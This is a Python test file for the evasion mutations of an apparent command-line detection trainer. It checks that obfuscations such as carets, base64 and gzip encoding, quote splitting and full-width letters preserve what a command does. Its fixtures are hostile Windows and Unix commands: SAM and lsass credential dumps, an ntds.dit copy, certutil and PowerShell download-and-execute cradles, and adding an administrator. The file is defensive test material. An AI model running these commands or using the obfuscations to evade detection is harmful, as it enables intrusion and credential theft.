"""A mutation changes how a command is written and not what it does."""

from __future__ import annotations

import base64
import gzip
import ntpath
import re
import shutil
import subprocess
import unicodedata
from random import Random

import pytest

from connector.learn.evasion import length, options, programs
from connector.learn.evasion.families import FAMILIES, LEFT_OUT, MUTATIONS, TRAINED
from connector.learn.evasion.line import Line, windows_line
from tests.learn.evasion import reading

SEEDS = range(12)
CMD = [
    'cmd.exe /c "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.dmp & tasklist /v"',
    "C:\\Windows\\system32\\cmd.exe /c certutil -urlcache -split -f http://x.example/a.exe C:\\Users\\Public\\evil.exe",
]
NATIVE = [
    "certutil -urlcache -split -f http://x.example/a.exe C:\\Users\\Public\\evil.exe",
    "schtasks /create /tn updater /tr C:\\Temp\\run.exe /sc daily",
    "net localgroup administrators bobby /add",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\lsass.dmp full",
]
POWERSHELL = [
    "powershell.exe -NoProfile -WindowStyle Hidden -Command \"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"",
]
SCRIPTS = [
    "Invoke-WebRequest -Uri 'http://x/some' -OutFile 'C:\\Users\\Public\\some.exe'; Start-Process some.exe",
    "Copy-Item -Path C:\\Windows\\NTDS\\ntds.dit -Destination C:\\ProgramData\\out.txt",
]
UNIX = ["cat /etc/passwd", "curl http://x.example/a.sh --output /tmp/run"]
LINES = [
    *map(windows_line, [*CMD, *NATIVE, *POWERSHELL]),
    *(Line("powershell", "", text) for text in SCRIPTS),
    *(Line("sh", "", text) for text in UNIX),
]
BY_NAME = {mutation.name: mutation for mutation in MUTATIONS}


def _written(name: str, *shells: str) -> list[tuple[Line, Line]]:
    """Every line of these shells beside how the mutation writes it, wherever it writes it otherwise."""
    mutation = BY_NAME[name]
    pairs = [
        (line, mutation.apply(line, Random(f"{name}{seed}")))
        for line in LINES
        for seed in SEEDS
        if line.shell in mutation.shells and (not shells or line.shell in shells)
    ]
    changed = [(line, other) for line, other in pairs if line.text != other.text]
    assert changed, f"{name} changes none of the lines"
    return changed


@pytest.mark.parametrize("name", BY_NAME)
def test_a_mutation_writes_some_line_otherwise_and_the_same_way_for_the_same_seed(name: str) -> None:
    for line, other in _written(name):
        assert other.shell == line.shell
    line, _ = _written(name)[0]
    assert BY_NAME[name].apply(line, Random(7)) == BY_NAME[name].apply(line, Random(7))


def test_every_family_is_either_trained_or_left_out_and_there_are_several_of_both() -> None:
    assert FAMILIES.keys() == TRAINED | LEFT_OUT
    assert not TRAINED & LEFT_OUT
    assert min(len(TRAINED), len(LEFT_OUT)) > 3


@pytest.mark.parametrize("name", ["carets", "carets-everywhere"])
def test_cmd_takes_carets_away(name: str) -> None:
    for line, other in _written(name):
        assert reading.without_carets(other.body) == line.body


@pytest.mark.parametrize("name", ["empty-quotes", "split-quotes"])
def test_a_windows_program_gets_the_same_arguments(name: str) -> None:
    for line, other in _written(name, "native"):
        assert reading.arguments(other.body) == reading.arguments(line.body)
    for line, other in _written(name, "cmd"):
        commands, others = (
            re.split(" & ", text.body.removesuffix('"') if '"' in text.head else text.body) for text in (line, other)
        )
        assert [reading.arguments(one) for one in others] == [reading.arguments(one) for one in commands]


@pytest.mark.parametrize(
    "name", ["empty-quotes", "split-quotes", "backslashes", "empty-parameters", "field-separator", "blanks"]
)
@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_bash_reads_the_same_words(name: str) -> None:
    pairs = _written(name, "sh")
    script = "\necho --\n".join(f"printf '%s\\n' {text.body}" for pair in pairs for text in pair)
    done = subprocess.run(["bash", "--norc", "-c", script], capture_output=True, text=True, check=True)
    words = done.stdout.split("--\n")
    assert words[::2] == words[1::2]


@pytest.mark.parametrize("name", ["base64-pipe", "comment-after", "comment-before"])
@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_bash_does_the_same(name: str) -> None:
    line = Line("sh", "", "printf '%s-%s' one two")
    done = subprocess.run(
        ["bash", "--norc", "-c", BY_NAME[name].apply(line, Random(1)).body], capture_output=True, check=True
    )
    assert done.stdout == b"one-two"


@pytest.mark.parametrize("name", ["substrings", "folders"])
def test_variables_expand_to_what_stood_there(name: str) -> None:
    for line, other in _written(name, "cmd"):
        assert reading.expanded(other.body).lower() == line.body.lower()


def test_folders_of_a_script_are_only_named_where_variables_are_read() -> None:
    for line, other in _written("folders", "powershell"):
        named = re.sub(r"\$env:(\w+)", lambda match: reading.ENVIRONMENT[match[1].lower()], other.body)
        assert named == line.body
        assert "$" not in "".join(re.findall(r"'[^']*'", other.body))


def test_a_name_set_first_is_put_in_where_it_was_cut_out() -> None:
    for line, other in _written("set-first"):
        name, value, rest = re.match(r"set (\w+)=(\w+)&&(.*)", other.body, re.DOTALL).groups()  # type: ignore[union-attr]
        assert rest.replace(f"!{name}!", value) == line.body
        assert other.head.replace("/v:on ", "") == line.head


def test_powershell_takes_ticks_away() -> None:
    for line, other in _written("ticks"):
        assert reading.without_ticks(other.body) == line.body


@pytest.mark.parametrize("name", ["concatenation", "format-operator", "characters"])
def test_a_script_puts_its_strings_together_again(name: str) -> None:
    for line, other in _written(name):
        plain = re.sub(r"&\('([^']*)'\)", r"\1", reading.folded(other.body))
        assert re.sub(r"\(+('[^']*')\)+", r"\1", plain) == re.sub(r"\(('[^']*')\)", r"\1", line.body)


def test_an_encoded_command_decodes_to_the_script() -> None:
    for line, other in _written("encoded-command"):
        assert base64.b64decode(other.body).decode("utf-16-le") == line.body.removesuffix('"')
    for line, other in _written("gzip"):
        data = re.search(r"FromBase64String\('([^']+)'\)", other.body)
        assert data
        assert gzip.decompress(base64.b64decode(data[1])).decode() == line.body.removesuffix('"')


@pytest.mark.parametrize("name", ["detours", "device-prefix", "slashes"])
def test_windows_finds_the_same_file(name: str) -> None:
    def files(text: str) -> list[str]:
        text = text.replace("\\\\?\\", "").replace("\\\\.\\", "")
        return [ntpath.normpath(path) for path in re.findall(r"(?i)c:[\\/][\w\\/.]+", text)]

    for line, other in _written(name):
        assert files(other.text) == files(line.text)


def test_case_and_blanks_are_all_that_differs() -> None:
    for line, other in _written("case"):
        assert other.text.lower() == line.text.lower()
    for line, other in _written("blanks"):
        assert other.text.split() == line.text.split()


def test_typographic_signs_are_those_that_powershell_takes_for_straight_ones() -> None:
    straight = str.maketrans({"–": "-", "—": "-", "―": "-", "‘": "'", "’": "'"})
    for name in ("dashes", "curly-quotes"):
        for line, other in _written(name):
            assert other.text.translate(straight) == line.text


def test_full_width_letters_are_compatible_and_never_the_programs_name() -> None:
    for line, other in _written("full-width"):
        assert unicodedata.normalize("NFKC", other.text) == line.text
        assert other.text.split()[0] == line.text.split()[0]


def test_only_files_outside_the_systems_folders_get_other_letters() -> None:
    for line, other in _written("letters-of-files"):
        assert other.text.isascii() is False
        assert len(other.text) == len(line.text)
        for path in re.findall(r"(?i)c:\\windows\\\S+", line.text):
            assert path in other.text


PARAMETERS = [
    "psconsolefile",
    "version",
    "nologo",
    "noexit",
    "sta",
    "mta",
    "noprofile",
    "noninteractive",
    "inputformat",
    "outputformat",
    "windowstyle",
    "encodedcommand",
    "configurationname",
    "file",
    "executionpolicy",
    "command",
    "help",
]


@pytest.mark.parametrize(("full", "known"), options.SPELLINGS.items())
def test_each_spelling_of_an_option_is_a_start_that_powershell_tells_from_the_others(
    full: str, known: tuple[str, ...]
) -> None:
    for spelling in known:
        short = spelling[1:].lower()
        if short not in {"ec", "ep"}:  # abbreviations of their own, about_PowerShell_exe
            assert full.startswith(short)
        rivals = [name for name in PARAMETERS if name.startswith(short)]
        first = {"c": "command", "e": "encodedcommand", "en": "encodedcommand", "w": "windowstyle", "co": "command"}
        assert rivals in ([], [full]) or first.get(short) == full


def test_options_in_another_order_are_the_same_options() -> None:
    for name in ("order", "order-of-parameters"):
        for line, other in _written(name):
            assert sorted(other.text.split()) == sorted(line.text.split())
    for line, other in _written("switches"):
        assert re.sub("(?<= )[-/]", "", other.text) == re.sub("(?<= )[-/]", "", line.text)


def test_another_program_gets_the_same_arguments() -> None:
    for line, other in _written("equal-program"):
        assert other.body.split()[-1] == line.body.split()[-1]
    for line, other in _written("started-by-another"):
        assert line.body in other.body
    for _, aliases in programs.ALIASES:
        assert all(len(alias) < 8 for alias in aliases)


def test_padding_leaves_the_command_whole_and_a_cut_its_beginning() -> None:
    for name in ("comment-after", "comment-before"):
        for line, other in _written(name):
            assert line.body.removesuffix('"') in other.body
    for line, other in _written("cut-line"):
        assert line.body.startswith(other.body)
        assert len(other.body) == int(len(line.body) * length.KEPT)
